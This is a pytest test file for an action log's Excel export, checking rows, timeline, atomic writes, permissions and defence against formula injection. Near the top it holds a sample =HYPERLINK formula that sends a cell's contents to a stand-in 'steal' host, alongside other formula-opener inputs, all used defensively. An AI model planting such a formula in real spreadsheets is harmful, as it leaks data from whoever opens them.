"""Excel export of the action log: same rows as the screen, a timeline sheet, no formulas."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy import text

from tests.services.actions.test_action_log import TODAY
from tests.services.actions.test_action_log import World
from tests.services.actions.test_action_log import draft
from tests.services.actions.test_action_log import make_world
from tests.services.actions.test_action_log import seed
from vpr_desktop.domain.errors import PermissionDeniedError
from vpr_desktop.domain.models import AuditEvent
from vpr_desktop.reports import action_log_xlsx
from vpr_desktop.reports.action_log_xlsx import ExportFileError
from vpr_desktop.reports.action_log_xlsx import export_action_log
from vpr_desktop.services.actions.listing import ActionListSource
from vpr_desktop.services.actions.service import ActionLogService
from vpr_desktop.services.common.paging import PageRequest
from vpr_desktop.services.common.unit_of_work import reading
from vpr_desktop.store import atomic

EVIL_TITLE = '=HYPERLINK("http://example.invalid/steal?"&A1,"Click for the policy")'
# The service strips leading white space from what people type, so tab and CR openers only
# reach a sheet from imported data: they are checked on the cell writer directly below.
RISKY = ["+44 7700 900123", "-1+2", "@SUM(A1:A9)", "=1+1"]


@pytest.fixture
def world(db: Any) -> World:
    return make_world(db)


def export_audits(db: Any) -> list[AuditEvent]:
    with reading(db) as s:
        return list(s.scalars(select(AuditEvent).where(AuditEvent.action == "export")))


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        }


def parsed_cells(xml: dict[str, str]) -> list[tuple[str, str | None, str | None]]:
    """(text, cell type, style index) of every inline-string or formula cell in the sheets."""
    ns = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    out = []
    for body in xml.values():
        for c in ElementTree.fromstring(body).iter(f"{ns}c"):
            t = c.find(f"{ns}is/{ns}t")
            f = c.find(f"{ns}f")
            if t is not None or f is not None:
                value = t.text if t is not None else "=" + (f.text or "")
                out.append((value or "", c.get("t"), c.get("s")))
    return out


def test_export_matches_the_filtered_list_and_keeps_text_as_text(
    world: World, tmp_path: Path
) -> None:
    lead = world.svc(world.lead)
    xena = world.people["xena"]
    seed(world)
    evil = lead.create(
        draft(
            EVIL_TITLE,
            description=RISKY[0],
            staff_side_owner_id=xena,
            due_date=TODAY - dt.timedelta(days=4),
        )
    )
    for note in RISKY[1:]:
        world.svc(world.rep).add_comment(evil.id, note)
    world.svc(world.rep).add_comment(evil.id, "bell \x07 in the text")  # illegal in XML

    request = PageRequest(filters={"overdue": True, "staff_side_owner_id": xena})
    listed = ActionListSource(world.db, world.lead, today=TODAY).page(request).rows
    target = tmp_path / "actions.xlsx"
    result = export_action_log(lead, target, request)
    assert len(listed) == 4 and (result.path, result.actions) == (target, 4)

    wb = load_workbook(target)
    assert wb.sheetnames == ["Actions", "Timeline", "About"]
    actions = list(wb["Actions"].iter_rows(values_only=True))
    assert actions[0][:3] == ("Reference", "Title", "Description")
    assert [r[0] for r in actions[1:]] == [r[0] for r in listed]  # same rows, same order
    assert [r[1] for r in actions[1:]] == [r[1] for r in listed]
    evil_row = next(r for r in wb["Actions"].iter_rows(min_row=2) if r[1].value == EVIL_TITLE)
    assert evil_row[1].data_type == "s" and evil_row[1].quotePrefix
    assert evil_row[2].value == RISKY[0] and evil_row[2].data_type == "s"
    due = evil_row[7]
    assert due.value == dt.datetime(2026, 6, 26) and due.number_format == "yyyy-mm-dd"
    assert wb["Actions"].column_dimensions["B"].width == 48

    timeline = list(wb["Timeline"].iter_rows(values_only=True))
    assert timeline[0] == (
        "Action reference",
        "When",
        "Who",
        "Side",
        "Kind",
        "Text",
        "Status change",
    )
    expected = sum(len(lead.get_by_reference(r[0]).timeline) for r in listed)
    assert len(timeline) - 1 == expected == result.timeline_entries
    evil_texts = [r[5] for r in timeline[1:] if r[0] == evil.reference]
    assert evil_texts[0].startswith("Action proposed by the management side")
    assert evil_texts[-1] == "bell  in the text"
    assert set(RISKY[1:]) <= set(evil_texts)
    assert "Open → In progress" in [r[6] for r in timeline[1:]]
    assert isinstance(timeline[1][1], dt.datetime)

    xml = sheet_xml(target)
    assert not any("<f>" in body or "<f " in body for body in xml.values())
    cells = parsed_cells(xml)
    for value in [EVIL_TITLE, *RISKY]:
        types = {t for v, t, _s in cells if v == value}
        assert types == {"inlineStr"}, value  # a string cell, never a formula
        assert all(style for v, _t, style in cells if v == value)  # quote-prefix style

    (audit,) = export_audits(world.db)
    assert audit.username == "lead" and audit.detail.startswith("actions.xlsx: 4 actions")
    assert audit.detail.endswith("(staff-side owner: Xena Rep; overdue)")
    assert not list(tmp_path.glob(".*.part"))


def test_whole_demo_log_exports_every_action_and_timeline_entry(
    demo_copy: Path, tmp_path: Path
) -> None:
    from tests.conftest import DEMO_ANCHOR
    from vpr_desktop.services.admin.users import identify
    from vpr_desktop.store.database import open_database

    db = open_database(demo_copy)
    try:
        svc = ActionLogService(db, identify(db), today=DEMO_ANCHOR)
        result = export_action_log(svc, tmp_path / "log.xlsx", None)
        with db.engine.connect() as conn:
            n_actions = conn.execute(text("SELECT COUNT(*) FROM action")).scalar()
            n_entries = conn.execute(text("SELECT COUNT(*) FROM action_update")).scalar()
    finally:
        db.close()
    wb = load_workbook(result.path, read_only=True)
    rows = {name: sum(1 for _ in wb[name].iter_rows()) - 1 for name in ("Actions", "Timeline")}
    wb.close()
    assert rows["Actions"] == result.actions == n_actions > 0
    assert rows["Timeline"] == result.timeline_entries == n_entries > 0


def test_a_failed_export_leaves_the_old_file_and_no_audit(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lead = world.svc(world.lead)
    lead.create(draft())
    out = tmp_path / "exports"
    out.mkdir()
    target = out / "actions.xlsx"
    target.write_bytes(b"yesterday's export")

    def locked(*_a: Any) -> None:
        raise PermissionError(13, "The process cannot access the file")

    monkeypatch.setattr(atomic.os, "replace", locked)
    with pytest.raises(ExportFileError, match="open in Excel"):
        export_action_log(lead, target)
    monkeypatch.undo()

    def broken(*_a: Any, **_k: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(action_log_xlsx, "build_workbook", broken)
    with pytest.raises(Exception, match="disk is full"):
        export_action_log(lead, target)
    assert target.read_bytes() == b"yesterday's export"
    assert sorted(p.name for p in out.iterdir()) == ["actions.xlsx"]  # no half files
    assert export_audits(world.db) == []


def test_export_needs_read_permission_and_rows_can_be_given(world: World, tmp_path: Path) -> None:
    with pytest.raises(PermissionDeniedError):
        export_action_log(world.svc(world.board), tmp_path / "x.xlsx")
    lead = world.svc(world.lead)
    lead.create(draft())
    rows = lead.export_rows()
    result = export_action_log(rows, tmp_path / "rows.xlsx")
    assert result.actions == 1 and load_workbook(result.path)["About"]["B3"].value == (
        "all actions"
    )
    with pytest.raises(ExportFileError, match="does not exist"):
        export_action_log(rows, tmp_path / "missing" / "rows.xlsx")


def test_every_formula_opener_is_written_as_quoted_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    values = ["=1+1", "+1", "-1", "@A1", "\tTabbed", "\rReturn", "plain", "x" * 40_000]
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append([action_log_xlsx.text_cell(ws, v) for v in values])
    wb.save(tmp_path / "s.xlsx")
    body = sheet_xml(tmp_path / "s.xlsx")["xl/worksheets/sheet1.xml"]
    assert "<f>" not in body and body.count('t="inlineStr"') == len(values)
    row = next(load_workbook(tmp_path / "s.xlsx")["S"].iter_rows())
    assert [c.quotePrefix for c in row] == [True] * 6 + [False, False]
    assert row[0].value == "=1+1" and row[4].value == "\tTabbed"
    assert len(row[7].value) == 32_767  # Excel's cell limit, not a broken file
